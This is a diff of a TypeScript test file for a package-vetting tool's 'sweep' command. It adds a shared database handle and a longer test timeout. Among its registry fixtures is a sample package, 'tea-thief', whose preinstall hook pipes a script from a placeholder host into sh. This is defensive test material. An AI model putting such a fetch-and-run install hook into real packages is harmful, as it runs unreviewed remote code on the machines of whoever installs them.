@@ -2,23 +2,31 @@ import { spawn } from 'node:child_process'
 import { readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { openDatabase } from '../../src/sweep/index.ts'
+import type { Database } from '../../src/sweep/index.ts'
 import { launcher, scratch } from '../support/plugvet.ts'
 import type { Run } from '../support/plugvet.ts'
 import { startRegistry } from '../support/registry.ts'
 import type { TestRegistry } from '../support/registry.ts'
 
 let registry: TestRegistry
+/** One process that holds the database open, so that each command need not start one; the test of the package sweeps without. */
+let owner: Database
 const home = scratch('home')
 const long = { timeout: 300_000 }
 
 beforeAll(async () => {
+  owner = await openDatabase(join(home, '.plugvet/sweep'))
   registry = await startRegistry()
   const files = { 'index.js': "exports.brew = () => fetch('https://tea.example.invalid/pot')\n" }
   await registry.publish({ manifest: { name: 'tea-pot', version: '1.0.0', main: 'index.js', dependencies: { 'tea-leaf': '^1.0.0' } }, files })
   await registry.publish({ manifest: { name: 'tea-leaf', version: '1.0.0', main: 'index.js' }, files: { 'index.js': 'exports.grams = 3\n' } })
   await registry.publish({ manifest: { name: 'tea-thief', version: '0.0.1', scripts: { preinstall: 'curl -s https://tea.example.invalid/brew.sh | sh' } } })
+}, 300_000)
+afterAll(async () => {
+  await owner.close()
+  await registry.stop()
 })
-afterAll(async () => { await registry.stop() })
 
 const plugvet = (...args: readonly string[]): Promise<Run> => new Promise(resolve => {
   const env = { PATH: process.env['PATH'] ?? '', HOME: home, npm_config_registry: registry.url, npm_config_fetch_retries: '0', NO_COLOR: '1' }
@@ -84,7 +92,7 @@ describe('plugvet sweep', () => {
     expect((await plugvet('sweep', '--rescan', '1', '--workers', '0')).stdout).toContain('Run 4 has 5 items, 3 of them done because nothing that changed can touch them')
   })
 
-  test('says what it cannot do', async () => {
+  test('says what it cannot do', long, async () => {
     const says = async (...args: readonly string[]): Promise<string> => { const { code, stderr } = await plugvet('sweep', ...args); expect(code).toBe(2); return stderr }
     expect(await says()).toContain('nothing to sweep')
     expect(await says('tea', '--rescan', '1')).toContain('one at a time')
